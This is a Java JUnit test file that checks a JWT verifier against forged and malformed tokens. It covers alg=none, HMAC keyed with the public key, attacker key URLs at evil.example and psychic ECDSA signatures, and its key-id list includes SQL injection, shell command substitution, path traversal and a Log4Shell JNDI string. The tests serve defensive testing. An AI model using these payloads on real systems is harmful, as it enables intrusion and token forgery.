package dev.tallystick.jwt;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.crypto.impl.ECDSA;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.KeyOperation;
import com.nimbusds.jose.jwk.KeyRevocation;
import com.nimbusds.jose.jwk.KeyUse;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jose.util.JSONObjectUtils;
import dev.tallystick.Decision;
import dev.tallystick.Protection;
import dev.tallystick.Reason;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.text.ParseException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Date;
import java.util.EnumSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What attackers send. Each row is a token that must not open the door, and the reason that it is refused for. */
class JwtAttackTest {

    private static final Issuer P384 = Issuer.ec("p384", Curve.P_384);
    private static final Issuer WEAK = Issuer.rsa("weak", 1024);

    /** Knows everything that is public, and has keys of its own by the names of ours. */
    private static final Issuer ATTACKER_RSA = Issuer.rsa("rsa-1", 2048);

    private static final Issuer ATTACKER_EC = Issuer.ec("ec-1", Curve.P_256);
    private static final Issuer ATTACKER_ED = Issuer.ed("ed-1");

    private static final Protection PHONES =
            accepting(Issuer.keysOf(Issuer.RSA, Issuer.EC, Issuer.ED, P384, WEAK), "RS256", "PS256", "ES256", "EdDSA");

    private static Protection accepting(JWKSet keys, String... algorithms) {
        return JwtClaimProtection.builder()
                .issuer(Issuer.NAME)
                .audience(Issuer.AUDIENCE)
                .jwks(keys)
                .algorithms(algorithms)
                .require("mobile", true)
                .clock(new TestClock())
                .build();
    }

    private static void refuses(String token, Reason reason) {
        Decision decision = Decisions.of(PHONES, token);
        assertThat(decision.isAllowed()).isFalse();
        assertThat(decision.reason()).isEqualTo(reason);
        assertThat(decision.principal()).isNull();
    }

    static Stream<Issuer> issuers() {
        return Stream.of(Issuer.RSA, Issuer.EC, Issuer.ED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"none", "None", "NONE", "nOnE", "", " none", "none ", "none\\u0000", "null", "HS256", "foo"})
    void refusesAnUnsignedToken(String none) {
        String header = "{\"alg\":\"" + none + "\",\"typ\":\"JWT\",\"kid\":\"rsa-1\"}";
        String unsigned = Issuer.encode(header) + "." + Issuer.encode(Issuer.claims()) + ".";
        refuses(unsigned, Reason.INVALID_JWT);
        refuses(unsigned + "AAAA", Reason.INVALID_JWT);
        refuses(Issuer.RSA.sign(header, Issuer.claims()), Reason.INVALID_JWT);
    }

    @ParameterizedTest
    @MethodSource("issuers")
    void refusesATokenWhoseSignatureWasLeftOut(Issuer issuer) {
        String token = issuer.token();
        refuses(token.substring(0, token.lastIndexOf('.') + 1), Reason.INVALID_JWT);
        refuses(token.substring(0, token.lastIndexOf('.')), Reason.MALFORMED_JWT);
    }

    @ParameterizedTest
    @ValueSource(strings = {"rs256", "Rs256", "RS256 ", "RS512", "PS384", "ES384", "ES256K", "Ed25519", "Ed448", "RSA"})
    void refusesAnAlgorithmThatIsNotListed(String algorithm) {
        String header = "{\"alg\":\"" + algorithm + "\",\"kid\":\"rsa-1\"}";
        refuses(Issuer.RSA.sign(header, Issuer.claims()), Reason.INVALID_JWT);
    }

    @ParameterizedTest
    @ValueSource(strings = {"1", "null", "true", "[\"RS256\"]", "{\"RS256\":1}"})
    void refusesAnAlgorithmThatIsNoString(String algorithm) {
        refuses(Issuer.RSA.sign("{\"alg\":" + algorithm + "}", Issuer.claims()), Reason.INVALID_JWT);
    }

    @Test
    void refusesAHeaderWithoutAlgorithm() {
        refuses(Issuer.RSA.sign("{\"kid\":\"rsa-1\"}", Issuer.claims()), Reason.INVALID_JWT);
        refuses(Issuer.RSA.sign("{}", Issuer.claims()), Reason.INVALID_JWT);
    }

    static Stream<Arguments> publicKeysAsSecrets() throws GeneralSecurityException, JOSEException {
        RSAKey key = Issuer.RSA.publicKey().toRSAKey();
        byte[] der = key.toRSAPublicKey().getEncoded();
        String base64 = Base64.getEncoder().encodeToString(der);
        String lines = Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                .encodeToString(der);
        String pem = "-----BEGIN PUBLIC KEY-----\n" + lines + "\n-----END PUBLIC KEY-----";
        return Stream.of(
                arguments("DER", der),
                arguments("PEM", bytes(pem)),
                arguments("PEM with a last line end", bytes(pem + "\n")),
                arguments("PEM with the line ends of Windows", bytes(pem.replace("\n", "\r\n"))),
                arguments("base64 of the DER", bytes(base64)),
                arguments("JWK", bytes(key.toJSONString())),
                arguments("JWK Set", bytes(new JWKSet(key).toString())),
                arguments("the modulus", key.getModulus().decode()),
                arguments("the modulus in base64url", bytes(key.getModulus().toString())),
                arguments(
                        "its Java encoding as text", bytes(key.toRSAPublicKey().toString())));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("publicKeysAsSecrets")
    void refusesAnHmacMadeWithThePublicKey(String spelling, byte[] secret) throws GeneralSecurityException {
        for (String algorithm : List.of("HS256", "hs256", "RS256")) {
            String input = Issuer.encode("{\"alg\":\"" + algorithm + "\",\"typ\":\"JWT\",\"kid\":\"rsa-1\"}") + "."
                    + Issuer.encode(Issuer.claims());
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            refuses(input + "." + Base64URL.encode(mac.doFinal(bytes(input))), Reason.INVALID_JWT);
        }
    }

    static Stream<Arguments> keysThatTheTokenBrings() {
        String jwk = ATTACKER_RSA.publicKey().toJSONString();
        String alg = "{\"alg\":\"RS256\",\"typ\":\"JWT\"";
        String kid = alg + ",\"kid\":\"rsa-1\"";
        return Stream.of(
                arguments("the attacker's key by the name of ours", kid + "}"),
                arguments("no key named", alg + "}"),
                arguments("the key itself", alg + ",\"jwk\":" + jwk + "}"),
                arguments("the key itself by the name of ours", kid + ",\"jwk\":" + jwk + "}"),
                arguments("a URL of keys", kid + ",\"jku\":\"https://evil.example/jwks.json\"}"),
                arguments("a URL of keys on our own host", kid + ",\"jku\":\"https://id.bank.example@evil.example/\"}"),
                arguments("a URL of a certificate", kid + ",\"x5u\":\"https://evil.example/cert.pem\"}"),
                arguments("a certificate", kid + ",\"x5c\":[\"MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\"]}"),
                arguments("a certificate's fingerprint", kid + ",\"x5t\":\"AAAA\",\"x5t#S256\":\"AAAA\"}"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("keysThatTheTokenBrings")
    void trustsNoKeyThatTheTokenBrings(String what, String header) {
        refuses(ATTACKER_RSA.sign(header, Issuer.claims()), Reason.INVALID_JWT);
        // What is ignored doesn't spoil a good token either.
        assertThat(Decisions.of(PHONES, Issuer.RSA.sign(header, Issuer.claims()))
                        .isAllowed())
                .isTrue();
    }

    @Test
    void refusesOtherKeysOfEveryKind() {
        refuses(ATTACKER_RSA.token(), Reason.INVALID_JWT);
        refuses(ATTACKER_EC.token(), Reason.INVALID_JWT);
        refuses(ATTACKER_ED.token(), Reason.INVALID_JWT);
    }

    static Stream<String> keyIds() {
        return Stream.of(
                "\"../../../../dev/null\"",
                "\"/dev/null\"",
                "\"file:///etc/passwd\"",
                "\"https://evil.example/key\"",
                "\"' OR '1'='1\"",
                "\"x' UNION SELECT 'secret' -- \"",
                "\"|| id\"",
                "\"$(id)\"",
                "\"${jndi:ldap://evil.example/a}\"",
                "\"\"",
                "\" \"",
                "\"RSA-1\"",
                "\" rsa-1\"",
                "\"rsa-1\\u0000\"",
                "\"rsa-1\\n\"",
                "\"r\\u0455a-1\"",
                "\"ec-1\"",
                "\"weak\"",
                "\"" + "k".repeat(10_000) + "\"",
                "1",
                "0",
                "null",
                "true",
                "[\"rsa-1\"]",
                "{\"rsa-1\":\"rsa-1\"}");
    }

    @ParameterizedTest
    @MethodSource("keyIds")
    void findsNoKeyByAnIdThatIsNotOurs(String keyId) {
        String header = "{\"alg\":\"RS256\",\"kid\":" + keyId + "}";
        refuses(Issuer.RSA.sign(header, Issuer.claims()), Reason.INVALID_JWT);
        refuses(ATTACKER_RSA.sign(header, Issuer.claims()), Reason.INVALID_JWT);
    }

    static Stream<Arguments> headers() {
        String start = "{\"alg\":\"ES256\",\"kid\":\"ec-1\"";
        return Stream.of(
                arguments("an extension to be understood", start + ",\"crit\":[\"exp\"],\"exp\":1}"),
                arguments("no extension to be understood", start + ",\"crit\":[]}"),
                arguments("a crit that is nothing", start + ",\"crit\":null}"),
                arguments("an unencoded payload", start + ",\"b64\":false,\"crit\":[\"b64\"]}"),
                arguments("an unencoded payload in secret", start + ",\"b64\":false}"),
                arguments("an encoded payload out loud", start + ",\"b64\":true}"),
                arguments("encryption", start + ",\"enc\":\"A128GCM\"}"),
                arguments("compression", start + ",\"zip\":\"DEF\"}"),
                arguments("a token within", start + ",\"cty\":\"JWT\"}"),
                arguments("a token within, in other letters", start + ",\"cty\":\"application/jwt\"}"),
                arguments("the type of an identity", start + ",\"typ\":\"id+jwt\"}"),
                arguments("the type of a logout", start + ",\"typ\":\"logout+jwt\"}"),
                arguments("the type of a proof", start + ",\"typ\":\"dpop+jwt\"}"),
                arguments("the type of a plain signature", start + ",\"typ\":\"JOSE\"}"),
                arguments("an empty type", start + ",\"typ\":\"\"}"),
                arguments("a type that begins well", start + ",\"typ\":\"JWTs\"}"),
                arguments("a type of a type", start + ",\"typ\":\"application/application/jwt\"}"),
                arguments("a type that is nothing", start + ",\"typ\":null}"),
                arguments("a type that is no string", start + ",\"typ\":[\"JWT\"]}"),
                arguments("the algorithm twice", "{\"alg\":\"none\",\"alg\":\"ES256\",\"kid\":\"ec-1\"}"),
                arguments("the algorithm twice in two spellings", "{\"alg\":\"ES256\",\"\\u0061lg\":\"none\"}"),
                arguments("the key twice", start + ",\"kid\":\"ec-1\"}"),
                arguments("a member twice, deep down", start + ",\"jwk\":{\"a\":[{\"b\":1,\"b\":1}]}}"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("headers")
    void refusesAHeaderThatAsksForMore(String what, String header) {
        refuses(Issuer.EC.sign(header, Issuer.claims()), Reason.INVALID_JWT);
    }

    static Stream<Arguments> claims() {
        return Stream.of(
                arguments("expired", Issuer.claims("exp", "1"), Reason.EXPIRED_JWT),
                arguments("not valid yet", Issuer.claims("nbf", "4000000000"), Reason.EXPIRED_JWT),
                arguments("without expiry", Issuer.claimsWithout("exp"), Reason.INVALID_JWT),
                arguments("expiry as text", Issuer.claims("exp", "\"4000000000\""), Reason.INVALID_JWT),
                arguments("expiry null", Issuer.claims("exp", "null"), Reason.INVALID_JWT),
                arguments("expiry as a list", Issuer.claims("exp", "[4000000000]"), Reason.INVALID_JWT),
                arguments("expiry in milliseconds", Issuer.claims("exp", "4000000000000"), Reason.INVALID_JWT),
                arguments("expiry beyond numbers", Issuer.claims("exp", "1e9999"), Reason.INVALID_JWT),
                arguments("expiry beyond exponents", Issuer.claims("exp", "1e999999999"), Reason.INVALID_JWT),
                arguments("expiry that overflows", Issuer.claims("exp", "9223372036854775807"), Reason.INVALID_JWT),
                arguments(
                        "expiry that overflows twice",
                        Issuer.claims("exp", "18446744077709551616"),
                        Reason.INVALID_JWT),
                arguments("expiry before time", Issuer.claims("exp", "-4000000000"), Reason.INVALID_JWT),
                arguments("start as text", Issuer.claims("nbf", "\"0\""), Reason.INVALID_JWT),
                arguments("start null", Issuer.claims("nbf", "null"), Reason.INVALID_JWT),
                arguments("start before time", Issuer.claims("nbf", "-1"), Reason.INVALID_JWT),
                arguments("issue as text", Issuer.claims("iat", "\"yesterday\""), Reason.INVALID_JWT),
                arguments("without subject", Issuer.claimsWithout("sub"), Reason.INVALID_JWT),
                arguments("empty subject", Issuer.claims("sub", "\"\""), Reason.INVALID_JWT),
                arguments("subject null", Issuer.claims("sub", "null"), Reason.INVALID_JWT),
                arguments("subject as a number", Issuer.claims("sub", "7"), Reason.INVALID_JWT),
                arguments("subject as a list", Issuer.claims("sub", "[\"ann\"]"), Reason.INVALID_JWT),
                arguments("without issuer", Issuer.claimsWithout("iss"), Reason.INVALID_JWT),
                arguments("another issuer", Issuer.claims("iss", "\"https://id.evil.example\""), Reason.INVALID_JWT),
                arguments(
                        "issuer with a slash",
                        Issuer.claims("iss", "\"https://id.bank.example/\""),
                        Reason.INVALID_JWT),
                arguments(
                        "issuer in capitals", Issuer.claims("iss", "\"HTTPS://ID.BANK.EXAMPLE\""), Reason.INVALID_JWT),
                arguments(
                        "issuer that begins well",
                        Issuer.claims("iss", "\"https://id.bank.example.evil\""),
                        Reason.INVALID_JWT),
                arguments(
                        "issuer as a list", Issuer.claims("iss", "[\"https://id.bank.example\"]"), Reason.INVALID_JWT),
                arguments("issuer null", Issuer.claims("iss", "null"), Reason.INVALID_JWT),
                arguments("without audience", Issuer.claimsWithout("aud"), Reason.INVALID_JWT),
                arguments("another audience", Issuer.claims("aud", "\"shop\""), Reason.INVALID_JWT),
                arguments("audience that begins well", Issuer.claims("aud", "\"banker\""), Reason.INVALID_JWT),
                arguments("audience as words", Issuer.claims("aud", "\"shop bank\""), Reason.INVALID_JWT),
                arguments("no audience in the list", Issuer.claims("aud", "[]"), Reason.INVALID_JWT),
                arguments("other audiences", Issuer.claims("aud", "[\"shop\",\"Bank\"]"), Reason.INVALID_JWT),
                arguments("audience deep down", Issuer.claims("aud", "[[\"bank\"]]"), Reason.INVALID_JWT),
                arguments("audience beside a number", Issuer.claims("aud", "[\"bank\",1]"), Reason.INVALID_JWT),
                arguments("audience as an object", Issuer.claims("aud", "{\"bank\":true}"), Reason.INVALID_JWT),
                arguments("audience null", Issuer.claims("aud", "null"), Reason.INVALID_JWT),
                arguments("without the claim", Issuer.claimsWithout("mobile"), Reason.MISSING_CLAIM),
                arguments("claim denied", Issuer.claims("mobile", "false"), Reason.MISSING_CLAIM),
                arguments("claim as text", Issuer.claims("mobile", "\"true\""), Reason.MISSING_CLAIM),
                arguments("claim as a number", Issuer.claims("mobile", "1"), Reason.MISSING_CLAIM),
                arguments("claim as a list", Issuer.claims("mobile", "[true]"), Reason.MISSING_CLAIM),
                arguments("claim null", Issuer.claims("mobile", "null"), Reason.MISSING_CLAIM),
                arguments(
                        "claim in capitals",
                        Issuer.claimsWithout("mobile").replace("{", "{\"Mobile\":true,"),
                        Reason.MISSING_CLAIM),
                arguments("claim deep down", Issuer.claims("mobile", "{\"mobile\":true}"), Reason.MISSING_CLAIM),
                arguments("the claim twice", Issuer.claims("mobile", "false,\"mobile\":true"), Reason.INVALID_JWT),
                arguments("the same claim twice", Issuer.claims("mobile", "true,\"mobile\":true"), Reason.INVALID_JWT),
                arguments(
                        "the claim twice in two spellings",
                        Issuer.claims("mobile", "true,\"mob\\u0069le\":false"),
                        Reason.INVALID_JWT),
                arguments("the subject twice", Issuer.claims("sub", "\"ann\",\"sub\":\"bob\""), Reason.INVALID_JWT),
                arguments(
                        "a member twice, deep down",
                        Issuer.claims("x", "[[{\"y\":{\"z\":1,\"z\":2}}]]"),
                        Reason.INVALID_JWT),
                arguments("an empty name twice", Issuer.claims("", "1,\"\":2"), Reason.INVALID_JWT),
                arguments("no object", "[" + Issuer.claims() + "]", Reason.INVALID_JWT),
                arguments("text", "\"ann\"", Reason.INVALID_JWT),
                arguments("nothing", "", Reason.INVALID_JWT),
                arguments("null", "null", Reason.INVALID_JWT),
                arguments("two objects", Issuer.claims() + Issuer.claims(), Reason.INVALID_JWT),
                arguments("something after it", Issuer.claims() + "x", Reason.INVALID_JWT),
                arguments("a byte order mark", "\uFEFF" + Issuer.claims(), Reason.INVALID_JWT),
                arguments("a comment", Issuer.claims().replace("{", "{/* */"), Reason.INVALID_JWT),
                arguments("a comma too many", Issuer.claims().replace("}", ",}"), Reason.INVALID_JWT),
                arguments("single quotes", Issuer.claims().replace('"', '\''), Reason.INVALID_JWT),
                arguments("half a character", Issuer.claims("x", "\"\\ud800\""), Reason.INVALID_JWT),
                arguments("a control character", Issuer.claims("x", "\"\u0001\""), Reason.INVALID_JWT),
                arguments("no number", Issuer.claims("x", "NaN"), Reason.INVALID_JWT),
                arguments(
                        "an abyss of lists",
                        Issuer.claims("x", "[".repeat(3000) + "]".repeat(3000)),
                        Reason.INVALID_JWT),
                arguments("an abyss left open", Issuer.claims("x", "{\"x\":".repeat(1000)), Reason.INVALID_JWT),
                arguments("a number without end", Issuer.claims("x", "1".repeat(5000)), Reason.INVALID_JWT));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("claims")
    void refusesASignedTokenThatSaysTheWrongThing(String what, String claims, Reason reason) {
        refuses(Issuer.ED.token(claims), reason);
    }

    @Test
    void refusesBytesThatAreNoUtf8() {
        byte[] claims = bytes(Issuer.claims("x", "\"?\""));
        byte[] header = bytes(Issuer.ED.header());
        for (int[] bad : new int[][] {{0xff}, {0xc0}, {0x80}, {0xed}}) {
            byte[] broken = claims.clone();
            broken[new String(claims, StandardCharsets.UTF_8).indexOf('?')] = (byte) bad[0];
            refuses(Issuer.ED.signBytes(header, broken), Reason.INVALID_JWT);
            refuses(Issuer.ED.signBytes(broken, claims), Reason.MALFORMED_JWT);
        }
    }

    static Stream<Arguments> unreadable() {
        String good = Issuer.ED.token();
        String header = good.substring(0, good.indexOf('.'));
        String payload = good.substring(good.indexOf('.') + 1, good.lastIndexOf('.'));
        String signature = good.substring(good.lastIndexOf('.') + 1);
        return Stream.of(
                arguments("nothing", ""),
                arguments("a blank", " "),
                arguments("one part", "abc"),
                arguments("two parts", header + "." + payload),
                arguments("four parts", good + ".AAAA"),
                arguments("five parts, as encrypted", header + ".AAAA.AAAA." + payload + "." + signature),
                arguments("two dots", ".."),
                arguments("many dots", ".".repeat(10_000)),
                arguments("two dots between", header + ".." + payload + "." + signature),
                arguments("a dot before", "." + good),
                arguments("a dot after", good + "."),
                arguments("an empty header", "." + payload + "." + signature),
                arguments("padding", good + "="),
                arguments("padding twice", good + "=="),
                arguments("padding within", header + "=." + payload + "." + signature),
                arguments("a blank within", header + " ." + payload + "." + signature),
                arguments("a line end within", header + "." + payload + ".\n" + signature),
                arguments("a second token", good + " " + good),
                arguments("a second token after a comma", good + "," + good),
                arguments("a second credential", good + ", Basic YW5uOmFubg=="),
                arguments("a parameter", "token=" + good),
                arguments("quotes", "\"" + good + "\""),
                arguments("the scheme twice", "Bearer " + good),
                arguments("garbage before", "x!" + good),
                arguments("garbage after", good + "!"),
                arguments("a percent sign", good.replace(".", "%2E")),
                arguments("base64 of the other alphabet", header + "." + payload + ".++++////"),
                arguments(
                        "a letter that looks the same",
                        header.replace('e', '\u0435') + "." + payload + "." + signature),
                arguments("digits of another script", header + "." + payload + ".\u0661\u0661\u0661\u0661"),
                arguments("full-width dots", good.replace('.', '\uff0e')),
                arguments("a zero", good + "\u0000"),
                arguments("half a character", good + "\ud800"),
                arguments("left-over bits in the signature", header + "." + payload + "." + otherSpelling(signature)),
                arguments(
                        "left-over bits in the header",
                        otherSpelling(Issuer.encode("{\"alg\":\"EdDSA\"}  ")) + "." + payload + "." + signature),
                arguments("one character too few", header + "." + payload + ".AAAAA"),
                arguments("a header that is a list", Issuer.encode("[]") + "." + payload + "." + signature),
                arguments("a header that is text", Issuer.encode("\"RS256\"") + "." + payload + "." + signature),
                arguments("a header that is null", Issuer.encode("null") + "." + payload + "." + signature),
                arguments("a header that is no JSON", Issuer.encode("alg=none") + "." + payload + "." + signature),
                arguments("a header left open", Issuer.encode("{\"alg\":\"EdDSA\"") + "." + payload + "." + signature),
                arguments(
                        "an abyss of a header",
                        Issuer.encode("{\"a\":".repeat(2000)) + "." + payload + "." + signature),
                arguments("a document", "{\"payload\":\"" + payload + "\",\"signature\":\"" + signature + "\"}"),
                arguments("longer than anyone writes", header + "." + "A".repeat(20_000) + "." + signature),
                arguments("a megabyte", "A".repeat(1 << 20)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("unreadable")
    void refusesWhatIsNoCompactSerialisation(String what, String token) {
        refuses(token, Reason.MALFORMED_JWT);
    }

    @Test
    void refusesABareScheme() {
        for (String line : List.of("Bearer", "bearer", "Bearer ", "Bearer \t ")) {
            assertThat(Decisions.of(PHONES, TestRequest.get().with("Authorization", line))
                            .reason())
                    .isEqualTo(Reason.MALFORMED_JWT);
        }
    }

    @ParameterizedTest
    @MethodSource("issuers")
    void refusesASignatureWithAnyBitFlipped(Issuer issuer) {
        String token = issuer.token();
        int end = token.lastIndexOf('.') + 1;
        byte[] signature = new Base64URL(token.substring(end)).decode();
        for (int bit = 0; bit < signature.length * 8; bit++) {
            byte[] flipped = signature.clone();
            flipped[bit / 8] ^= (byte) (1 << bit % 8);
            refuses(token.substring(0, end) + Base64URL.encode(flipped), Reason.INVALID_JWT);
        }
        for (int length = 0; length < signature.length; length++) {
            refuses(token.substring(0, end) + Base64URL.encode(Arrays.copyOf(signature, length)), Reason.INVALID_JWT);
        }
        refuses(
                token.substring(0, end) + Base64URL.encode(Arrays.copyOf(signature, signature.length + 1)),
                Reason.INVALID_JWT);
    }

    @ParameterizedTest
    @MethodSource("issuers")
    void refusesAHeaderOrPayloadWithAnyCharacterChanged(Issuer issuer) {
        String token = issuer.token();
        for (int i = 0; i < token.lastIndexOf('.'); i++) {
            char other = token.charAt(i) == 'A' ? 'B' : 'A';
            String changed = token.substring(0, i) + other + token.substring(i + 1);
            assertThat(Decisions.of(PHONES, changed).isAllowed()).as(changed).isFalse();
        }
    }

    static Stream<Arguments> psychicSignatures() {
        BigInteger n = Curve.P_256.toECParameterSpec().getOrder();
        return Stream.of(
                arguments("r = 0, s = 0", BigInteger.ZERO, BigInteger.ZERO),
                arguments("r = 0, s = 1", BigInteger.ZERO, BigInteger.ONE),
                arguments("r = 1, s = 0", BigInteger.ONE, BigInteger.ZERO),
                arguments("r = n, s = n", n, n),
                arguments("r = 1, s = n", BigInteger.ONE, n),
                arguments("r = n, s = 1", n, BigInteger.ONE),
                arguments(
                        "all bits set",
                        BigInteger.TWO.pow(256).subtract(BigInteger.ONE),
                        BigInteger.TWO.pow(256).subtract(BigInteger.ONE)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("psychicSignatures")
    void refusesAPsychicSignature(String what, BigInteger r, BigInteger s) {
        byte[] signature = new byte[64];
        put(r, signature, 32);
        put(s, signature, 64);
        String token = Issuer.EC.token();
        refuses(token.substring(0, token.lastIndexOf('.') + 1) + Base64URL.encode(signature), Reason.INVALID_JWT);
    }

    @Test
    void refusesAnEcdsaSignatureInTheSpellingOfCertificates() throws JOSEException {
        String token = Issuer.EC.token();
        int end = token.lastIndexOf('.') + 1;
        byte[] der = ECDSA.transcodeSignatureToDER(new Base64URL(token.substring(end)).decode());
        refuses(token.substring(0, end) + Base64URL.encode(der), Reason.INVALID_JWT);
    }

    @Test
    void refusesAnEd25519SignatureBeyondTheGroupOrder() {
        String token = Issuer.ED.token();
        int end = token.lastIndexOf('.') + 1;
        byte[] signature = new Base64URL(token.substring(end)).decode();
        BigInteger order = BigInteger.TWO.pow(252).add(new BigInteger("27742317777372353535851937790883648493"));
        byte[] s = reversed(Arrays.copyOfRange(signature, 32, 64));
        byte[] beyond = new byte[32];
        put(new BigInteger(1, s).add(order), beyond, 32);
        System.arraycopy(reversed(beyond), 0, signature, 32, 32);
        refuses(token.substring(0, end) + Base64URL.encode(signature), Reason.INVALID_JWT);
    }

    @Test
    void refusesAKeyOfAnotherKindThanTheAlgorithm() {
        for (String algorithm : List.of("RS256", "PS256", "ES256", "EdDSA")) {
            for (Issuer issuer : List.of(Issuer.RSA, Issuer.EC, Issuer.ED, P384)) {
                boolean fits = algorithm.equals(issuer.algorithm());
                String header = "{\"alg\":\"" + algorithm + "\",\"kid\":\"" + issuer.keyId() + "\"}";
                assertThat(Decisions.of(PHONES, issuer.sign(header, Issuer.claims()))
                                .isAllowed())
                        .as("%s with %s", algorithm, issuer.keyId())
                        .isEqualTo(fits);
            }
        }
        refuses(P384.token(), Reason.INVALID_JWT);
        assertThat(Decisions.of(accepting(Issuer.keysOf(P384), "ES384"), P384.token())
                        .isAllowed())
                .isTrue();
    }

    @Test
    void refusesAnRsaKeyThatIsTooShort() {
        refuses(WEAK.token(), Reason.INVALID_JWT);
        refuses(WEAK.sign("{\"alg\":\"RS256\"}", Issuer.claims()), Reason.INVALID_JWT);
    }

    @Test
    void usesAKeyForNothingButWhatItIsPublishedFor() {
        RSAKey key = Issuer.RSA.publicKey().toRSAKey();
        String rs256 = Issuer.RSA.token();
        String ps256 = Issuer.RSA.sign("PS256", "{\"alg\":\"PS256\",\"kid\":\"rsa-1\"}", Issuer.claims());
        JWK any = key;
        JWK signing = new RSAKey.Builder(key).keyUse(KeyUse.SIGNATURE).build();
        JWK verifying = new RSAKey.Builder(key)
                .keyOperations(Set.of(KeyOperation.VERIFY))
                .build();
        JWK onlyRs256 = new RSAKey.Builder(key).algorithm(JWSAlgorithm.RS256).build();
        JWK encrypting = new RSAKey.Builder(key).keyUse(KeyUse.ENCRYPTION).build();
        JWK wrapping = new RSAKey.Builder(key)
                .keyOperations(Set.of(KeyOperation.WRAP_KEY))
                .build();
        JWK forEncryption =
                new RSAKey.Builder(key).algorithm(JWEAlgorithm.RSA_OAEP_256).build();
        JWK revoked = new RSAKey.Builder(key)
                .keyRevocation(new KeyRevocation(new Date(0), KeyRevocation.Reason.COMPROMISED))
                .build();
        for (JWK usable : List.of(any, signing, verifying, onlyRs256)) {
            Protection phones = accepting(new JWKSet(usable), "RS256", "PS256");
            assertThat(Decisions.of(phones, rs256).isAllowed()).isTrue();
            assertThat(Decisions.of(phones, ps256).isAllowed()).isEqualTo(usable != onlyRs256);
        }
        for (JWK useless : List.of(encrypting, wrapping, forEncryption, revoked)) {
            Protection phones = accepting(new JWKSet(List.of(useless, Issuer.EC.publicKey())), "RS256", "PS256");
            assertThat(Decisions.of(phones, rs256).reason()).isEqualTo(Reason.INVALID_JWT);
        }
    }

    @Test
    void knowsEd25519ByItsLaterNameWhereThatIsListed() {
        String token = Issuer.ED.sign("{\"alg\":\"Ed25519\",\"kid\":\"ed-1\"}", Issuer.claims());
        assertThat(Decisions.of(accepting(Issuer.keysOf(Issuer.ED), "Ed25519"), token)
                        .isAllowed())
                .isTrue();
        refuses(token, Reason.INVALID_JWT);
    }

    @Test
    void endsInADecisionWhateverIsSent() throws ParseException {
        Random random = new Random(20_261_124);
        String good = Issuer.RSA.token();
        for (int i = 0; i < 4_000; i++) {
            String mutated = mutated(good, random);
            Decision decision = Decisions.of(PHONES, mutated);
            assertThat(decision.isAllowed())
                    .as(mutated)
                    .isEqualTo(withoutBlanks(mutated).equals(good));
        }
        Set<Reason> seen = EnumSet.noneOf(Reason.class);
        for (int i = 0; i < 3_000; i++) {
            String header = random.nextInt(3) == 0 ? mutated(Issuer.ED.header(), random) : Issuer.ED.header();
            String claims = mutated(Issuer.claims("x", "[{\"y\":\"\\u00e9\"},-1.5e3,null]"), random);
            Decision decision = Decisions.of(PHONES, Issuer.ED.sign(header, claims));
            if (decision.isAllowed()) {
                assertThat(JSONObjectUtils.parse(claims)).containsEntry("mobile", true);
            } else {
                seen.add(decision.reason());
            }
        }
        assertThat(seen)
                .containsExactlyInAnyOrder(
                        Reason.MALFORMED_JWT, Reason.INVALID_JWT, Reason.EXPIRED_JWT, Reason.MISSING_CLAIM);
    }

    /** Blanks around a header's value are no part of it. */
    private static String withoutBlanks(String value) {
        int from = 0;
        int to = value.length();
        while (from < to && value.charAt(from) == ' ') {
            from++;
        }
        while (to > from && value.charAt(to - 1) == ' ') {
            to--;
        }
        return value.substring(from, to);
    }

    private static String mutated(String text, Random random) {
        String alphabet = "{}[]\",:\\.=-_ tfn019eE+AZaz/\u0000\n\u00e9\u20ac\ud83d";
        StringBuilder mutated = new StringBuilder(text);
        for (int changes = random.nextInt(4); changes >= 0; changes--) {
            int at = random.nextInt(mutated.length() + 1);
            char c = alphabet.charAt(random.nextInt(alphabet.length()));
            switch (random.nextInt(4)) {
                case 0 -> mutated.insert(at, c);
                case 1 -> mutated.setLength(random.nextInt(8) == 0 ? at : mutated.length());
                case 2 -> mutated.insert(at, mutated.substring(0, at / 2));
                default -> {
                    if (at < mutated.length()) {
                        mutated.setCharAt(at, c);
                    }
                }
            }
        }
        return mutated.toString();
    }

    /** The same bytes for a decoder that ignores what is left over. */
    private static String otherSpelling(String base64url) {
        List<Character> alphabet = new ArrayList<>();
        for (char c : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_".toCharArray()) {
            alphabet.add(c);
        }
        int last = base64url.length() - 1;
        String other = base64url.substring(0, last) + alphabet.get(alphabet.indexOf(base64url.charAt(last)) + 1);
        assertThat(Base64.getUrlDecoder().decode(other))
                .isEqualTo(Base64.getUrlDecoder().decode(base64url));
        return other;
    }

    private static void put(BigInteger value, byte[] into, int end) {
        byte[] bytes = value.toByteArray();
        for (int i = 1; i <= 32 && i <= bytes.length; i++) {
            into[end - i] = bytes[bytes.length - i];
        }
    }

    private static byte[] reversed(byte[] bytes) {
        byte[] reversed = new byte[bytes.length];
        for (int i = 0; i < bytes.length; i++) {
